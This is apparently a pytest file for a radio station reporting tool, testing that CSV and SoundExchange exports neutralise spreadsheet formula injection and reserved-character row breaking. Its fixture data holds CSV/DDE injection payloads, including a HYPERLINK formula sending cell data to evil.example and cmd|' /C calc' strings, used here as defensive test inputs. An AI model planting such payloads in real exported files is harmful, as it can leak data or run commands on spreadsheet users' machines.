"""Tags written to be run by a spreadsheet, or to break a SoundExchange row, go through every report
as the station's manager runs them (the real CLI, a subprocess, on a database written by PlayLog):

- CSV reports: no field starts with what a spreadsheet runs as a formula; the text is kept behind a
  leading quote, and the raw plays export still verifies (the quote is taken off again);
- SoundExchange: the text is as tagged (no quote added), and ``^`` and ``|`` never occur inside data
  whatever the tag holds, so every row has its fields;
- a manual ATH figure of -5, NaN or Infinity is one line of error and nothing is written.
"""

from __future__ import annotations

import csv
import io
import itertools
import subprocess
import sys
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from radiod.playlog.store import PlayLog
from radiod.csvfile import Lines, field, neutralise, restore, risky
from radiod.store import open_db

ZONE = ZoneInfo("America/Toronto")
FORMULA_START = ("=", "+", "-", "@", "\t", "\r", "\0")

TOML = """\
[station]
name = "Radio Fjord"
service_name = "Radio Fjord"
timezone = "America/Toronto"
"""

EVIL = {
    "title": '=HYPERLINK("http://evil.example/?"&A1,"Listen")',
    "artist": "+cmd|' /C calc'!A0",
    "album": "-2+3+cmd|' /C notepad'!A0",
    "label": "@SUM(1+1)*cmd|' /C calc'!A0",
    "composer": "\t=1+1",
    "lyricist": "\r=2+2",
    "isrc": "",
    "genre": "'=already quoted",
}
# Characters a SoundExchange file reserves, and look-alikes that transliterate to them.
BREAKER = {"title": "Up ^ Down | Sideways\r\nAgain\tand ＾ again ｜ │ ˆ", "artist": "A|B^C",
           "album": "^Start", "label": "End|", "isrc": "USABC2612345"}


def play(log: PlayLog, minute: int, snapshot: dict, listeners: int = 3) -> None:
    t = round(datetime(2026, 3, 2, 10, minute, tzinfo=ZONE).timestamp() * 1000)
    pid = log.open_play(started_at_ms=t, planned_start_ms=t - 1500, source="rotation", usage="feature",
                        show="=Night Owls", snapshot={"length_ms": 60_000, **snapshot}, item_key=f"k{minute}",
                        listeners=listeners)
    log.record_listeners(t + 30_000, listeners)
    log.close_play(pid, ended_at_ms=t + 60_000, played_ms=60_000, end_reason="end", detail="-played out")


@pytest.fixture(scope="module")
def station(tmp_path_factory):
    directory = tmp_path_factory.mktemp("station")
    (directory / "radiod.toml").write_text(TOML, encoding="utf-8")
    conn = open_db(directory / "radiod.db")
    log = PlayLog(conn)
    play(log, 0, {"track_id": 1, **EVIL})
    play(log, 2, {"track_id": 2, **BREAKER})
    play(log, 4, {"track_id": 1, **EVIL})
    conn.close()
    return directory


def radiod(station: Path, *args: str, cwd: Path | None = None) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-c", "from radiod.cli import main; main()", "--station", str(station),
                           *args], capture_output=True, cwd=cwd or station, env={"PATH": "/usr/bin:/bin"})


def report(station: Path, fmt: str, *extra: str) -> bytes:
    done = radiod(station, "report", fmt, "--from", "2026-03-01", "--to", "2026-03-31", *extra)
    assert done.returncode == 0, done.stderr.decode()
    return done.stdout


@pytest.mark.parametrize("fmt", ["music-usage", "plays", "summary", "preflight"])
def test_no_csv_field_starts_a_formula_and_the_text_is_kept_behind_a_quote(station, fmt):
    rows = list(csv.reader(io.StringIO(report(station, fmt).decode("utf-8"), newline="")))
    fields = [value for row in rows for value in row]
    risky = [v for v in fields if v.startswith(FORMULA_START) and not v.lstrip("-+").replace(":", "").isdigit()]
    assert risky == [], f"{fmt}: fields a spreadsheet would run: {risky}"
    header = rows[0]
    for name, text in EVIL.items():
        if name in header and text:
            column = [row[header.index(name)] for row in rows[1:]]
            assert "'" + text in column, f"{fmt}: {name} is kept, behind one quote"
    if "utc_offset" in header:          # a UTC offset is a value, not a formula: left as it is
        assert {row[header.index("utc_offset")] for row in rows[1:]} == {"-05:00"}
    if "start_error_ms" in header:      # and so is a negative number
        assert {row[header.index("start_error_ms")] for row in rows[1:]} == {"1500"}


def test_the_raw_plays_export_with_escaped_fields_still_verifies_and_an_edit_is_still_found(station, tmp_path):
    export = tmp_path / "plays.csv"
    export.write_bytes(report(station, "plays", "--raw"))
    assert "'=HYPERLINK(" in export.read_text(encoding="utf-8")
    done = radiod(tmp_path, "verify-export", str(export))
    assert done.returncode == 0, done.stderr.decode()
    assert done.stdout.decode().startswith("ok: 3 plays")
    edited = tmp_path / "edited.csv"
    edited.write_text(export.read_text(encoding="utf-8").replace("'=HYPERLINK(", "'=HYPERLYNX(", 1),
                      encoding="utf-8", newline="")
    done = radiod(tmp_path, "verify-export", str(edited))
    assert done.returncode == 1 and "content does not match its hash (row was edited)" in done.stderr.decode()


def test_the_escape_is_undone_exactly_whatever_the_text():
    for text in ["", "'", "''", "'=", "''=1", "=1", "-", "-5", "'-5", "-05:00", "+1.5", "-1+1", "@", "\t", "\r\n",
                 "\0x", "a=b", "'quoted", "Don't", "'Round Midnight"]:
        assert restore(neutralise(text)) == text
        assert not neutralise(text).startswith(FORMULA_START) or neutralise(text) in ("-5", "-05:00", "+1.5")
    assert neutralise("'Round Midnight") == "'Round Midnight", "a title that starts with a quote stays as it is"


def test_every_short_text_is_escaped_exactly_once_wherever_it_stands_in_a_line():
    """All texts of up to 3 characters from the ones that matter: what a line holds is each field
    neutralised (the quick line filter never lets one through), and restore undoes it."""
    alphabet = ["'", "=", "-", "+", "@", "\t", "\r", "\0", "a", "1", ":", ",", '"', "\n"]
    for size in range(4):
        for chars in itertools.product(alphabet, repeat=size):
            text = "".join(chars)
            assert restore(neutralise(text)) == text
            for rows in ([[text, "x"]], [["x", text, "y"], ["-1", "b"]], [[text, text]]):
                lines = Lines()
                lines.writer().writerows(rows)
                expected = io.StringIO()
                csv.writer(expected, lineterminator="\r\n").writerows([[neutralise(v) for v in r] for r in rows])
                assert lines.data() == expected.getvalue().encode(), rows
            if neutralise(text) != text:      # the plays export checks the first part of a line alone
                assert risky(",".join(field(v) for v in ("1", text, "z")))


def test_soundexchange_keeps_the_text_as_tagged_and_no_tag_breaks_a_row(station, tmp_path):
    for variant in ([], ["--headers"], ["--ath-hours", "12.5"]):
        done = radiod(station, "report", "soundexchange", "--from", "2026-03-01", "--to", "2026-03-31",
                      "-o", str(tmp_path), *variant)
        assert done.returncode == 0, done.stderr.decode()
        data = (tmp_path / "RadioFjord20260301-20260331.txt").read_bytes()
        lines = data.decode("ascii").split("\r\n")
        assert lines[-1] == "" and all("\r" not in ln and "\n" not in ln for ln in lines)
        body = lines[14:-1] if variant == ["--headers"] else lines[:-1]
        fields = 10 if "--ath-hours" in variant else 8
        assert len(body) == 2
        for line in body:
            parts = line.split("|")
            assert len(parts) == fields, line
            for part in parts:       # a text field is ^…^ with neither reserved character inside
                assert (part.startswith("^") and part.endswith("^") and len(part) >= 2
                        and "^" not in part[1:-1]) or part.replace(".", "").isdigit(), (part, line)
        evil = next(line for line in body if "HYPERLINK" in line)
        assert '^=HYPERLINK("http://evil.example/?"&A1,"Listen")^' in evil, "the title as on the release"
        assert "^+cmd/' /C calc'!A0^" in evil, "the artist's | becomes /, nothing is prefixed"


@pytest.mark.parametrize("hours", ["-5", "NaN", "Infinity", "-Infinity", "sNaN", "1e30"])
def test_an_ath_figure_that_is_not_a_number_of_hours_is_one_line_and_writes_nothing(station, tmp_path, hours):
    done = radiod(station, "report", "soundexchange", "--from", "2026-03-01", "--to", "2026-03-31",
                  "--ath-hours", hours, "-o", str(tmp_path))
    assert done.returncode == 1
    assert done.stderr.decode().splitlines() == [
        f"radiod: --ath-hours: expected a number of hours from 0 to 10,000,000,000, got {hours!r}"]
    assert list(tmp_path.iterdir()) == []


def test_an_ath_figure_of_zero_or_with_spaces_is_accepted(station, tmp_path):
    for hours, shown in (("0", "0.00"), (" 7.255 ", "7.26")):
        done = radiod(station, "report", "soundexchange", "--from", "2026-03-01", "--to", "2026-03-31",
                      "--ath-hours", hours, "-o", str(tmp_path))
        assert done.returncode == 0, done.stderr.decode()
        line = (tmp_path / "RadioFjord20260301-20260331.txt").read_text(encoding="ascii").splitlines()[0]
        assert line.split("|")[7] == shown
